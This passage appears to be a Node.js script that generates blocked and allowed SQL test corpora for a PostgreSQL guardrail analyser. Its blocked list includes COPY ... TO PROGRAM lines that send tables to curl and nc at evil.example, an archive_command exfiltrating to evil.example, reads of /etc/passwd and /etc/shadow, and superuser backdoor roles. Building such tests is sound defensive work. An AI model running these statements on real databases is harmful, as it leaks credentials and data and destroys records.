// Regenerates blocked.jsonl and allowed.jsonl from hand-written base statements and
// meaning-preserving obfuscations (casing, comments, whitespace, quoting, Unicode escapes,
// DO/EXECUTE wrappers, CTEs, PREPARE, EXPLAIN ANALYZE, multi-statement strings).
// Run: node libs/policy-postgres/test/corpora/guardrails/generate.mjs
// Deterministic (seeded). Every generated line is checked with PostgreSQL's parser (and DO
// bodies with its PL/pgSQL compiler) so the corpus only holds valid SQL, except class "invalid".
// The expected outcome of each line is decided here, by hand, never by the analyser under test.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadModule, parsePlPgSQLSync, parseSync, scanSync } from 'libpg-query';

await loadModule();
const here = dirname(fileURLToPath(import.meta.url));

// ---------------------------------------------------------------------------------------------
// Base statements. `kind` says which wrappers keep them valid:
//   select (SELECT … — PREPARE, EXPLAIN ANALYZE, query_to_xml, PERFORM in DO),
//   dml (INSERT/UPDATE/DELETE — also a data-modifying CTE), merge, ddl (runs as-is in a DO body),
//   other (only EXECUTE wrappers and token-level obfuscations).
// ---------------------------------------------------------------------------------------------
const BLOCKED = [
  // no-drop: every object type, with IF EXISTS / CASCADE / CONCURRENTLY variants
  ['no-drop', 'kind', 'ddl', 'DROP TABLE orders', 'plain DROP TABLE'],
  ['no-drop', 'kind', 'ddl', 'DROP TABLE IF EXISTS public.orders CASCADE', 'qualified, IF EXISTS, CASCADE'],
  ['no-drop', 'kind', 'ddl', 'DROP SCHEMA sales CASCADE', 'DROP SCHEMA'],
  ['no-drop', 'kind', 'other', 'DROP DATABASE production', 'DROP DATABASE (DropdbStmt)'],
  ['no-drop', 'kind', 'other', 'DROP INDEX CONCURRENTLY orders_status_idx', 'DROP INDEX CONCURRENTLY'],
  ['no-drop', 'kind', 'ddl', 'DROP VIEW IF EXISTS report_v', 'DROP VIEW'],
  ['no-drop', 'kind', 'ddl', 'DROP MATERIALIZED VIEW monthly_totals', 'DROP MATERIALIZED VIEW'],
  ['no-drop', 'kind', 'ddl', 'DROP FUNCTION IF EXISTS calc_tax(numeric)', 'DROP FUNCTION'],
  ['no-drop', 'kind', 'ddl', 'DROP ROLE analyst', 'DROP ROLE (DropRoleStmt)'],
  ['no-drop', 'kind', 'ddl', 'DROP USER reporting', 'DROP USER alias'],
  ['no-drop', 'kind', 'ddl', 'DROP SEQUENCE orders_id_seq', 'DROP SEQUENCE'],
  ['no-drop', 'kind', 'ddl', 'DROP TRIGGER orders_audit ON orders', 'DROP TRIGGER'],
  ['no-drop', 'kind', 'ddl', 'DROP EXTENSION pgcrypto', 'DROP EXTENSION'],
  ['no-drop', 'kind', 'ddl', 'DROP OWNED BY app_user CASCADE', 'DROP OWNED'],
  ['no-drop', 'kind', 'ddl', 'DROP TYPE order_status', 'DROP TYPE'],
  ['no-drop', 'kind', 'ddl', 'DROP POLICY tenant_isolation ON orders', 'DROP POLICY'],
  ['no-drop', 'kind', 'ddl', 'DROP ROUTINE cleanup', 'DROP ROUTINE'],
  ['no-drop', 'kind', 'ddl', 'DROP FOREIGN TABLE remote_orders', 'DROP FOREIGN TABLE'],
  ['no-drop', 'kind', 'other', 'DROP TABLESPACE fastdisk', 'DROP TABLESPACE'],
  ['no-drop', 'kind', 'ddl', 'DROP PUBLICATION all_tables', 'DROP PUBLICATION'],
  ['no-drop', 'kind', 'ddl', 'DROP TABLE orders, order_items, customers', 'several tables'],
  // no-truncate
  ['no-truncate', 'kind', 'ddl', 'TRUNCATE orders', 'plain TRUNCATE'],
  [
    'no-truncate',
    'kind',
    'ddl',
    'TRUNCATE TABLE public.orders, order_items RESTART IDENTITY CASCADE',
    'TRUNCATE TABLE list',
  ],
  ['no-truncate', 'kind', 'ddl', 'TRUNCATE ONLY events', 'TRUNCATE ONLY'],
  ['no-truncate', 'kind', 'ddl', 'TRUNCATE audit.log', 'audit schema too, but TRUNCATE comes first'],
  // no-mass-dml: no WHERE, constant-true WHERE, row-independent WHERE
  ['no-mass-dml', 'missing-where', 'dml', 'DELETE FROM customers', 'DELETE without WHERE'],
  ['no-mass-dml', 'missing-where', 'dml', 'UPDATE customers SET email = NULL', 'UPDATE without WHERE'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM events WHERE true', 'WHERE true'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM events WHERE 1 = 1', 'WHERE 1=1'],
  ['no-mass-dml', 'constant-true', 'dml', "UPDATE accounts SET balance = 0 WHERE 'a' = 'a'", "WHERE 'a'='a'"],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM sessions WHERE NOT false', 'WHERE NOT false'],
  ['no-mass-dml', 'constant-true', 'dml', 'UPDATE users SET active = false WHERE id = 7 OR true', 'x OR true'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM logs WHERE 1 <> 2', 'WHERE 1<>2'],
  ['no-mass-dml', 'constant-true', 'dml', 'UPDATE products SET price = price * 0 WHERE 2 > 1', 'WHERE 2>1'],
  ['no-mass-dml', 'constant-true', 'dml', "DELETE FROM carts WHERE 't'::boolean", "WHERE 't'::boolean"],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM payments WHERE 1 IN (1, 2)', 'WHERE 1 IN (…)'],
  ['no-mass-dml', 'constant-true', 'dml', 'UPDATE invoices_local SET paid = true WHERE NULL IS NULL', 'NULL IS NULL'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM tokens WHERE (SELECT true)', 'scalar subquery true'],
  [
    'no-mass-dml',
    'constant-true',
    'dml',
    "UPDATE users SET role = 'admin' WHERE 5 BETWEEN 1 AND 10",
    'BETWEEN constants',
  ],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM users USING teams WHERE true', 'DELETE … USING … WHERE true'],
  [
    'no-mass-dml',
    'constant-true',
    'merge',
    'MERGE INTO stock s USING (SELECT 1 AS x) d ON true WHEN MATCHED THEN DELETE',
    'MERGE ON true THEN DELETE',
  ],
  ['no-mass-dml', 'constant-true', 'dml', 'UPDATE t SET a = 1 WHERE $1', 'parameter as the whole filter'],
  ['no-mass-dml', 'constant-true', 'dml', "DELETE FROM customers WHERE now() > '2000-01-01'", 'row-independent filter'],
  [
    'no-mass-dml',
    'constant-true',
    'dml',
    "UPDATE customers SET tier = 'gold' WHERE id IS NOT NULL OR 1 = 1",
    'column OR constant',
  ],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM items WHERE NOT (id = 1 AND false)', 'NOT (x AND false)'],
  ['no-mass-dml', 'constant-true', 'dml', "DELETE FROM items WHERE 'yes'", 'string coerced to true'],
  ['no-mass-dml', 'constant-true', 'dml', 'UPDATE items SET qty = 0 WHERE 3 - 1 = 2', 'arithmetic'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM items WHERE 1 IS DISTINCT FROM 2', 'IS DISTINCT FROM'],
  ['no-mass-dml', 'constant-true', 'dml', 'DELETE FROM items WHERE EXISTS (SELECT 1)', 'EXISTS without FROM'],
  // server-side-functions: search-path tricks, SRFs, nesting, attribute notation
  ['server-side-functions', 'function', 'select', "SELECT pg_read_file('/etc/passwd')", 'pg_read_file'],
  [
    'server-side-functions',
    'search-path',
    'select',
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    'pg_catalog-qualified',
  ],
  [
    'server-side-functions',
    'set-returning-function',
    'select',
    "SELECT * FROM pg_ls_dir('/var/lib/postgresql')",
    'SRF in FROM',
  ],
  [
    'server-side-functions',
    'function',
    'select',
    "SELECT pg_read_binary_file('postgresql.conf')",
    'pg_read_binary_file',
  ],
  ['server-side-functions', 'function', 'select', "SELECT lo_import('/etc/shadow')", 'lo_import'],
  ['server-side-functions', 'function', 'select', "SELECT lo_export(16401, '/tmp/dump')", 'lo_export'],
  ['server-side-functions', 'function', 'select', "SELECT pg_stat_file('pg_hba.conf')", 'pg_stat_file'],
  ['server-side-functions', 'function', 'select', "SELECT dblink_exec('dbname=prod', 'select 1')", 'dblink_exec'],
  [
    'server-side-functions',
    'set-returning-function',
    'select',
    "SELECT * FROM dblink('host=10.0.0.5 dbname=prod', 'SELECT id FROM users') AS t(id int)",
    'dblink in FROM',
  ],
  [
    'server-side-functions',
    'function',
    'select',
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
    'terminate backends',
  ],
  [
    'server-side-functions',
    'attribute-notation',
    'select',
    "SELECT ('/etc/passwd'::text).pg_read_file",
    'call in attribute notation',
  ],
  [
    'server-side-functions',
    'attribute-notation',
    'select',
    "SELECT f.pg_read_file FROM unnest(ARRAY['/etc/hostname']) AS f",
    'attribute notation on a scalar FROM item',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT length(pg_read_file('/etc/passwd')) > 0",
    'inside another call',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT * FROM users WHERE name = pg_read_file('/tmp/x')",
    'in WHERE',
  ],
  [
    'server-side-functions',
    'set-returning-function',
    'select',
    "SELECT count(*) FROM pg_ls_dir('.') AS d",
    'aggregate over SRF',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT CASE WHEN true THEN pg_read_file('/etc/passwd') END",
    'in CASE',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT coalesce(NULL, pg_read_file('/etc/passwd'))",
    'in COALESCE',
  ],
  ['server-side-functions', 'function', 'other', "VALUES (pg_read_file('/etc/passwd'))", 'in VALUES'],
  [
    'server-side-functions',
    'set-returning-function',
    'select',
    "SELECT * FROM ROWS FROM (pg_ls_dir('.')) AS r(name)",
    'ROWS FROM',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT json_build_object('f', pg_read_file('/etc/passwd'))",
    'in json_build_object',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT string_agg(pg_read_file(path), ',') FROM wanted_files",
    'inside an aggregate',
  ],
  [
    'server-side-functions',
    'set-returning-function',
    'select',
    'SELECT * FROM wanted_files w, LATERAL pg_read_file(w.path) AS c',
    'LATERAL call',
  ],
  ['server-side-functions', 'nested-subquery', 'select', "SELECT ARRAY(SELECT pg_ls_dir('.'))", 'ARRAY subquery'],
  [
    'server-side-functions',
    'function',
    'dml',
    "INSERT INTO loot(data) VALUES (pg_read_file('/etc/passwd'))",
    'in INSERT VALUES',
  ],
  [
    'server-side-functions',
    'function',
    'ddl',
    "CREATE TABLE loot2 (data text DEFAULT pg_read_file('/etc/passwd'))",
    'in a column default',
  ],
  ['server-side-functions', 'quoting', 'select', `SELECT "pg_read_file"('/etc/passwd')`, 'quoted function name'],
  [
    'server-side-functions',
    'function',
    'select',
    "SELECT dblink_connect('myconn', 'dbname=postgres')",
    'dblink_connect',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT * FROM (SELECT (SELECT pg_ls_dir('.') LIMIT 1) AS x) s",
    'nested scalar subqueries',
  ],
  [
    'server-side-functions',
    'nested-subquery',
    'select',
    "SELECT 1 FROM users ORDER BY pg_read_file('/etc/passwd')",
    'in ORDER BY',
  ],
  [
    'server-side-functions',
    'function',
    'dml',
    "UPDATE notes SET body = pg_read_file('/etc/passwd') WHERE id = 1",
    'in UPDATE SET',
  ],
  [
    'server-side-functions',
    'cte',
    'select',
    "WITH f AS (SELECT pg_read_file('/etc/passwd') AS c) SELECT c FROM f",
    'inside a CTE',
  ],
  // no-copy-program
  [
    'no-copy-program',
    'copy-program',
    'ddl',
    "COPY orders TO PROGRAM 'curl -T - http://evil.example'",
    'COPY TO PROGRAM',
  ],
  [
    'no-copy-program',
    'copy-program',
    'ddl',
    "COPY (SELECT * FROM customers) TO PROGRAM 'nc evil.example 4444'",
    'COPY (query) TO PROGRAM',
  ],
  ['no-copy-program', 'copy-program', 'ddl', "COPY loot FROM PROGRAM 'cat /etc/passwd'", 'COPY FROM PROGRAM'],
  [
    'no-copy-program',
    'copy-program',
    'ddl',
    "COPY loot (data) FROM PROGRAM 'id' WITH (FORMAT text)",
    'with a column list and options',
  ],
  // no-unchecked-dynamic-sql
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    "DO $$ DECLARE q text := 'DROP TABLE orders'; BEGIN EXECUTE q; END $$",
    'EXECUTE of a variable',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    "DO $$ BEGIN EXECUTE 'DROP TABLE ' || current_user; END $$",
    'concatenation with a non-constant',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    'DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE (SELECT cmd FROM job_queue LIMIT 1) LOOP END LOOP; END $$',
    'FOR … IN EXECUTE',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    `DO LANGUAGE plpython3u $$ plpy.execute("DROP TABLE orders") $$`,
    'DO in another language',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    "DO LANGUAGE plperl $$ spi_exec_query('TRUNCATE orders') $$",
    'DO in plperl',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'select',
    "SELECT query_to_xml(current_setting('app.q'), true, false, '')",
    'query_to_xml of a setting',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    'DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE (SELECT cmd FROM job_queue LIMIT 1); END $$',
    'OPEN … FOR EXECUTE',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    "DO $$ BEGIN EXECUTE format('TRUNCATE %s', (SELECT relname FROM pg_class LIMIT 1)); END $$",
    'format() with a query argument',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    "DO $$ BEGIN EXECUTE 'DROP TABLE ' || repeat('orders', 1); END $$",
    'non-folded function',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'other',
    'DO $$ DECLARE t text; BEGIN SELECT cmd INTO t FROM job_queue LIMIT 1; EXECUTE t; END $$',
    'SQL read from a table',
  ],
  [
    'no-unchecked-dynamic-sql',
    'dynamic-sql',
    'select',
    "SELECT table_to_xml((SELECT relname FROM pg_class LIMIT 1)::regclass, true, false, '')",
    'table_to_xml of a computed name',
  ],
  [
    'no-unchecked-dynamic-sql',
    'parser-setting',
    'ddl',
    'SET standard_conforming_strings = off',
    "the server would read '\\'' differently from the gateway",
  ],
  [
    'no-unchecked-dynamic-sql',
    'parser-setting',
    'select',
    "SELECT set_config('standard_conforming_strings', 'off', false)",
    'same through set_config',
  ],
  [
    'no-unchecked-dynamic-sql',
    'parser-setting',
    'ddl',
    "SET client_encoding = 'SJIS'",
    'an encoding whose bytes the gateway would misread',
  ],
  [
    'no-unchecked-dynamic-sql',
    'parser-setting',
    'ddl',
    'ALTER DATABASE app SET standard_conforming_strings = off',
    'for every later session',
  ],
  [
    'server-side-functions',
    'indirect-call',
    'ddl',
    'CREATE OPERATOR ~~~ (RIGHTARG = text, FUNCTION = pg_read_file)',
    'an operator that calls pg_read_file',
  ],
  [
    'server-side-functions',
    'indirect-call',
    'ddl',
    'CREATE CAST (text AS int8) WITH FUNCTION pg_catalog.pg_stat_file(text)',
    'a cast that calls pg_stat_file',
  ],
  [
    'server-side-functions',
    'indirect-call',
    'ddl',
    'CREATE AGGREGATE leak (text) (SFUNC = lo_export, STYPE = text)',
    'an aggregate over lo_export',
  ],
  // protect-secrets: every way to reach the relation
  ['protect-secrets', 'relation', 'select', 'SELECT * FROM secrets', 'plain read'],
  [
    'protect-secrets',
    'schema-qualification',
    'select',
    'SELECT token FROM public.secrets WHERE id = 1',
    'schema-qualified',
  ],
  ['protect-secrets', 'relation', 'other', 'TABLE secrets', 'TABLE command'],
  ['protect-secrets', 'relation', 'select', 'SELECT s.* FROM ONLY secrets s', 'ONLY'],
  [
    'protect-secrets',
    'nested-subquery',
    'select',
    'SELECT (SELECT token FROM secrets LIMIT 1) AS t',
    'scalar subquery',
  ],
  ['protect-secrets', 'relation', 'select', 'SELECT * FROM users u JOIN secrets s ON s.user_id = u.id', 'JOIN'],
  [
    'protect-secrets',
    'nested-subquery',
    'select',
    'SELECT * FROM users WHERE EXISTS (SELECT 1 FROM secrets WHERE secrets.user_id = users.id)',
    'EXISTS',
  ],
  ['protect-secrets', 'cte', 'select', 'WITH s AS (SELECT * FROM secrets) SELECT * FROM s', 'CTE'],
  ['protect-secrets', 'relation', 'other', 'COPY secrets TO STDOUT', 'COPY out'],
  ['protect-secrets', 'relation', 'other', 'COPY (SELECT * FROM secrets) TO STDOUT WITH CSV', 'COPY (query) out'],
  ['protect-secrets', 'relation', 'dml', 'INSERT INTO mine SELECT * FROM secrets', 'INSERT … SELECT'],
  ['protect-secrets', 'relation', 'ddl', 'CREATE VIEW leak AS SELECT * FROM secrets', 'view over it'],
  ['protect-secrets', 'relation', 'ddl', 'CREATE TABLE leak2 AS SELECT * FROM secrets', 'CREATE TABLE AS'],
  ['protect-secrets', 'relation', 'other', 'SELECT * INTO leak3 FROM secrets', 'SELECT INTO'],
  ['protect-secrets', 'quoting', 'select', 'SELECT * FROM "Vault"', 'quoted, case-sensitive name'],
  ['protect-secrets', 'quoting', 'select', 'SELECT * FROM public."Vault" WHERE true', 'qualified quoted'],
  ['protect-secrets', 'dynamic-sql', 'select', "SELECT table_to_xml('secrets', true, false, '')", 'table_to_xml'],
  [
    'protect-secrets',
    'dynamic-sql',
    'select',
    "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
    'query_to_xml',
  ],
  ['protect-secrets', 'relation', 'other', 'DECLARE leak_cur CURSOR FOR SELECT * FROM secrets', 'cursor'],
  [
    'protect-secrets',
    'nested-subquery',
    'select',
    'SELECT id::text FROM users UNION ALL SELECT token FROM secrets',
    'UNION',
  ],
  ['protect-secrets', 'relation', 'ddl', 'LOCK TABLE secrets IN ACCESS EXCLUSIVE MODE', 'LOCK'],
  ['protect-secrets', 'relation', 'ddl', 'ALTER TABLE secrets OWNER TO attacker', 'ALTER TABLE'],
  ['protect-secrets', 'relation', 'dml', "UPDATE secrets SET token = 'x' WHERE id = 1", 'UPDATE'],
  ['protect-secrets', 'relation', 'select', 'SELECT * FROM secrets FOR UPDATE SKIP LOCKED', 'FOR UPDATE'],
  ['protect-secrets', 'relation', 'select', 'SELECT row_to_json(s) FROM secrets s', 'whole-row'],
  ['protect-secrets', 'relation', 'ddl', 'GRANT SELECT ON secrets TO attacker', 'GRANT on it'],
  [
    'protect-secrets',
    'nested-subquery',
    'select',
    'SELECT * FROM (SELECT * FROM (SELECT * FROM secrets) a) b',
    'nested derived tables',
  ],
  // billing-schema: explicit references and search_path
  ['billing-schema', 'schema-qualification', 'select', 'SELECT * FROM billing.invoices', 'qualified read'],
  [
    'billing-schema',
    'schema-qualification',
    'select',
    'SELECT sum(amount) FROM billing.payments WHERE paid',
    'aggregate',
  ],
  ['billing-schema', 'search-path', 'ddl', 'SET search_path TO billing, public', 'SET search_path'],
  [
    'billing-schema',
    'search-path',
    'select',
    "SELECT set_config('search_path', 'billing', false)",
    'set_config(search_path)',
  ],
  [
    'billing-schema',
    'search-path',
    'ddl',
    'ALTER ROLE CURRENT_USER SET search_path = billing',
    'ALTER ROLE … SET search_path',
  ],
  ['billing-schema', 'schema-qualification', 'select', 'SELECT billing.charge_card(42)', 'function in the schema'],
  ['billing-schema', 'schema-qualification', 'dml', 'INSERT INTO billing.refunds(amount) VALUES (100)', 'INSERT'],
  ['billing-schema', 'casing', 'select', 'SELECT * FROM BILLING.INVOICES', 'upper case'],
  ['billing-schema', 'quoting', 'select', 'SELECT * FROM "billing".invoices', 'quoted schema'],
  ['billing-schema', 'kind', 'ddl', 'GRANT USAGE ON SCHEMA billing TO public', 'GRANT on the schema'],
  ['billing-schema', 'search-path', 'ddl', 'SET LOCAL search_path = billing', 'SET LOCAL'],
  ['billing-schema', 'dynamic-sql', 'select', "SELECT schema_to_xml('billing', true, false, '')", 'schema_to_xml'],
  // privileged-admin
  ['privileged-admin', 'kind', 'ddl', 'ALTER ROLE app_user WITH SUPERUSER', 'ALTER ROLE'],
  ['privileged-admin', 'kind', 'ddl', "ALTER USER app_user WITH PASSWORD 'x'", 'ALTER USER alias'],
  ['privileged-admin', 'kind', 'ddl', "CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x'", 'CREATE ROLE'],
  ['privileged-admin', 'kind', 'ddl', "CREATE USER backdoor2 WITH PASSWORD 'x'", 'CREATE USER alias'],
  [
    'privileged-admin',
    'kind',
    'other',
    "ALTER SYSTEM SET archive_command = 'curl http://evil.example/?f=%p'",
    'ALTER SYSTEM',
  ],
  ['privileged-admin', 'kind', 'ddl', 'GRANT ALL ON ALL TABLES IN SCHEMA public TO attacker', 'GRANT'],
  ['privileged-admin', 'kind', 'ddl', 'GRANT pg_read_server_files TO app_user', 'GRANT role'],
  ['privileged-admin', 'kind', 'ddl', 'REVOKE ALL ON orders FROM auditor', 'REVOKE'],
  ['privileged-admin', 'kind', 'ddl', 'SET ROLE postgres', 'SET ROLE'],
  ['privileged-admin', 'kind', 'ddl', 'SET SESSION AUTHORIZATION postgres', 'SET SESSION AUTHORIZATION'],
  ['privileged-admin', 'kind', 'ddl', 'CREATE EXTENSION IF NOT EXISTS dblink', 'CREATE EXTENSION'],
  ['privileged-admin', 'kind', 'ddl', "LOAD 'auto_explain'", 'LOAD'],
  [
    'no-drop',
    'routine-body',
    'other',
    'CREATE FUNCTION sneaky() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN DROP TABLE orders; END $f$',
    'CREATE FUNCTION: its body is checked as if it ran',
  ],
  [
    'no-mass-dml',
    'routine-body',
    'other',
    'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $p$ DELETE FROM orders $p$',
    'CREATE PROCEDURE whose body deletes every row',
  ],
  ['privileged-admin', 'kind', 'ddl', 'ALTER GROUP admins ADD USER attacker', 'ALTER GROUP'],
  ['privileged-admin', 'kind', 'ddl', 'SET LOCAL ROLE postgres', 'SET LOCAL ROLE'],
  // orders-no-delete: relation pattern public.orders (qualified, folded, quoted, search_path)
  [
    'orders-no-delete',
    'relation',
    'dml',
    'DELETE FROM orders WHERE id = 42',
    'unqualified (search_path may resolve to public)',
  ],
  [
    'orders-no-delete',
    'schema-qualification',
    'dml',
    "DELETE FROM public.orders WHERE created_at < '2020-01-01'",
    'qualified',
  ],
  ['orders-no-delete', 'casing', 'dml', 'DELETE FROM ORDERS WHERE id = $1', 'upper case, parameter'],
  ['orders-no-delete', 'quoting', 'dml', `DELETE FROM "orders" WHERE status = 'cancelled'`, 'quoted lower-case name'],
  [
    'orders-no-delete',
    'cte',
    'dml',
    "WITH old AS (SELECT id FROM orders WHERE created_at < now() - interval '1 year') DELETE FROM orders WHERE id IN (SELECT id FROM old)",
    'DELETE with its own CTE',
  ],
  [
    'orders-no-delete',
    'relation',
    'dml',
    'DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.banned',
    'DELETE … USING',
  ],
  [
    'orders-no-delete',
    'relation',
    'merge',
    'MERGE INTO orders o USING returns r ON o.id = r.order_id WHEN MATCHED THEN DELETE',
    'MERGE … THEN DELETE',
  ],
  ['orders-no-delete', 'relation', 'other', 'DELETE FROM orders WHERE id = 1 RETURNING *', 'RETURNING'],
  // audit-read-only
  [
    'audit-read-only',
    'schema-qualification',
    'dml',
    "DELETE FROM audit.log WHERE ts < now() - interval '90 days'",
    'DELETE in audit',
  ],
  [
    'audit-read-only',
    'schema-qualification',
    'dml',
    "UPDATE audit.log SET actor = 'nobody' WHERE id = 5",
    'UPDATE in audit',
  ],
  [
    'audit-read-only',
    'schema-qualification',
    'ddl',
    'ALTER TABLE audit.log DISABLE TRIGGER ALL',
    'ALTER TABLE in audit',
  ],
  [
    'audit-read-only',
    'schema-qualification',
    'merge',
    'MERGE INTO audit.log l USING fixes f ON l.id = f.id WHEN MATCHED THEN UPDATE SET actor = f.actor',
    'MERGE into audit',
  ],
  ['audit-read-only', 'schema-qualification', 'ddl', 'ALTER TABLE audit.log SET UNLOGGED', 'SET UNLOGGED'],
  // customers-no-rewrite: every way to write customers (issue 14), and no-temp-functions
  [
    'customers-no-rewrite',
    'upsert',
    'dml',
    "INSERT INTO customers (id, email) VALUES (1, 'a@example.com') ON CONFLICT (id) DO UPDATE SET email = excluded.email",
    'ON CONFLICT DO UPDATE is an UPDATE',
  ],
  [
    'customers-no-rewrite',
    'upsert',
    'dml',
    'INSERT INTO public.customers AS c VALUES (2, $$b@example.com$$) ON CONFLICT ON CONSTRAINT customers_pkey DO UPDATE SET tier = c.tier + 1 WHERE c.id = 2',
    'ON CONFLICT ON CONSTRAINT … DO UPDATE … WHERE',
  ],
  [
    'no-mass-dml',
    'upsert',
    'dml',
    'INSERT INTO customers SELECT * FROM customers_import ON CONFLICT (id) DO UPDATE SET email = NULL',
    'upsert of rows from a query without a row filter rewrites any row',
  ],
  [
    'customers-no-rewrite',
    'merge',
    'merge',
    'MERGE INTO customers c USING customers_import i ON c.id = i.id WHEN MATCHED THEN UPDATE SET email = i.email WHEN NOT MATCHED THEN INSERT VALUES (i.id, i.email)',
    'MERGE … THEN UPDATE',
  ],
  [
    'customers-no-rewrite',
    'routine-body',
    'ddl',
    'CREATE FUNCTION pg_temp.touch() RETURNS void LANGUAGE sql AS $f$ UPDATE customers SET tier = 0 WHERE id = 1 $f$',
    'SQL function body',
  ],
  [
    'customers-no-rewrite',
    'routine-body',
    'ddl',
    'CREATE OR REPLACE FUNCTION pg_temp.t() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN UPDATE customers SET seen_at = now() WHERE id = NEW.customer_id; RETURN NEW; END $f$',
    'PL/pgSQL trigger function body',
  ],
  [
    'customers-no-rewrite',
    'routine-body',
    'ddl',
    'CREATE PROCEDURE reset_tiers() LANGUAGE sql BEGIN ATOMIC DELETE FROM customers WHERE tier = 0; END',
    'SQL-standard procedure body',
  ],
  [
    'no-unchecked-dynamic-sql',
    'routine-body',
    'ddl',
    "CREATE FUNCTION pg_temp.p() RETURNS void LANGUAGE plpython3u AS $f$ plpy.execute('DELETE FROM customers') $f$",
    'a body in another language cannot be checked',
  ],
  [
    'customers-no-rewrite',
    'rule-actions',
    'ddl',
    'CREATE RULE bump AS ON INSERT TO orders DO ALSO UPDATE customers SET order_count = order_count + 1 WHERE id = NEW.customer_id',
    'CREATE RULE whose action updates customers',
  ],
  ['no-temp-functions', 'user-function', 'select', 'SELECT pg_temp.touch_customers(42)', 'call into pg_temp'],
  ['no-temp-functions', 'user-function', 'ddl', 'CALL pg_temp.purge()', 'CALL into pg_temp'],
];

/** Strings that do not parse: refused (`invalid`) like the server would, never forwarded. */
const INVALID = [
  ['SELECT 1; DROP TABLE orders; SELEC 1', 'a syntax error anywhere refuses the whole string'],
  ['DROP TABLE orders; \u0000', 'NUL character'],
  ['SELECT 1\u0000; DROP TABLE orders', 'NUL hides the rest from a C-string parser'],
  ['DELETE FROM orders WHERE', 'truncated statement'],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE x'; END", 'unterminated dollar quote'],
  ["SELECT 'unterminated; DROP TABLE orders", 'unterminated string'],
  ['/* unterminated comment DROP TABLE orders', 'unterminated comment'],
  ['DROP TABLE orders,', 'dangling comma'],
];

const ALLOWED = [
  // look-alike identifiers
  ['identifier', 'select', 'SELECT drop FROM ui_events', 'a column named drop'],
  ['identifier', 'select', 'SELECT "drop", "truncate" FROM flags', 'quoted keyword columns'],
  ['identifier', 'select', 'SELECT t.drop FROM ui_events t', 'qualified column named drop'],
  [
    'identifier',
    'ddl',
    'CREATE TABLE drop_requests (id int, drop boolean, reason text)',
    'table and column with drop in the name',
  ],
  ['identifier', 'select', 'SELECT * FROM drop_requests WHERE drop', 'boolean column named drop'],
  ['identifier', 'select', 'SELECT delete_flag, drop_count FROM items WHERE delete_flag', 'delete_flag'],
  ['identifier', 'dml', 'UPDATE items SET delete_flag = true WHERE id = 42', 'soft delete'],
  ['identifier', 'select', 'SELECT pg_read_file_count FROM file_stats', 'column starting with pg_read_file'],
  ['identifier', 'select', 'SELECT secrets FROM app_config', 'column named secrets'],
  ['identifier', 'select', 'SELECT * FROM secrets_archive', 'relation whose name starts with secrets'],
  ['identifier', 'select', 'SELECT * FROM vault', 'unquoted vault is not "Vault"'],
  ['identifier', 'select', 'SELECT * FROM "secrets_v2"', 'quoted other relation'],
  ['identifier', 'select', 'SELECT * FROM "Secrets"', '"Secrets" is not secrets'],
  ['identifier', 'select', 'SELECT billing FROM accounts', 'column named billing'],
  ['identifier', 'select', 'SELECT * FROM billing_invoices', 'relation with billing in the name'],
  ['identifier', 'select', 'SELECT * FROM public.billing', 'relation named billing'],
  ['identifier', 'select', 'SELECT * FROM "billing.invoices"', 'one quoted identifier containing a dot'],
  ['identifier', 'select', 'SELECT dblink_status FROM link_monitor', 'column starting with dblink'],
  ['identifier', 'select', 'SELECT m.dblink_status FROM link_monitor m', 'qualified column starting with dblink'],
  ['identifier', 'select', 'SELECT * FROM audit_log', 'audit_log is not the audit schema'],
  ['identifier', 'dml', 'UPDATE audit_log SET seen = true WHERE id = 1', 'update outside the audit schema'],
  ['identifier', 'dml', 'DELETE FROM sales.orders WHERE id = 1', 'orders in another, explicit schema'],
  ['identifier', 'dml', "DELETE FROM orders_archive WHERE archived_at < now() - interval '7 years'", 'orders_archive'],
  ['identifier', 'dml', 'DELETE FROM "Orders" WHERE id = 1', '"Orders" is not orders'],
  ['identifier', 'dml', 'DELETE FROM orders_tmp WHERE id = 1', 'orders_tmp'],
